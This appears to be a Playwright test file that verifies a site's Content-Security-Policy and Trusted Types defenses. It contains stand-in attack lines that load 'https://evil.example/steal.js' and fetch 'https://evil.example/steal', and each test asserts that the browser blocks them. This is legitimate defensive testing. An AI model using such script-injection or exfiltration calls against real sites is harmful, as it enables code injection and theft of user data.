import { expect } from '@playwright/test'
import { test } from './support/test.ts'

test('the page has the response headers of production', async ({ page }) => {
  const response = await page.goto('/')
  const headers = response?.headers() ?? {}
  const policy = headers['content-security-policy'] ?? ''
  expect(policy).toContain("default-src 'none'")
  expect(policy).toContain("require-trusted-types-for 'script'")
  expect(policy).not.toContain('unsafe')
  expect(headers['x-content-type-options']).toBe('nosniff')
  expect(headers['cross-origin-opener-policy']).toBe('same-origin-allow-popups')
})

test('the policy blocks markup from strings, and the journeys detect the violation', async ({
  page,
  pageErrors,
}) => {
  pageErrors.expect(/CSP: require-trusted-types-for/)
  pageErrors.expect(/requires 'TrustedHTML' assignment/)
  await page.goto('/')
  const error = await page.evaluate(() => {
    try {
      document.body.insertAdjacentHTML('beforeend', '<b>from a string</b>')
      return ''
    } catch (error) {
      return String(error)
    }
  })
  expect(error).toContain('TypeError')
})

test('the landing page blocks scripts of other origins before the full site is loaded', async ({
  page,
}) => {
  // The site's scripts run after `load`. Only the page's inline scripts have run by then.
  await page.addInitScript(() => {
    document.addEventListener('DOMContentLoaded', () => {
      try {
        document.createElement('script').src = 'https://evil.example/steal.js'
      } catch (error) {
        document.documentElement.dataset.refused = String(error)
      }
    })
  })
  await page.goto('/')
  await expect(page.locator('html')).toHaveAttribute(
    'data-refused',
    'TypeError: https://evil.example/steal.js',
  )
})

test('the policy blocks requests to other origins, and the journeys detect the violation', async ({
  page,
  pageErrors,
}) => {
  pageErrors.expect(/CSP: connect-src refused https:\/\/evil\.example/)
  pageErrors.expect(/violates the (following|document's) Content Security Policy/)
  await page.goto('/')
  const error = await page.evaluate(() =>
    fetch('https://evil.example/steal').then(
      () => '',
      (error) => String(error),
    ),
  )
  expect(error).toContain('TypeError')
})
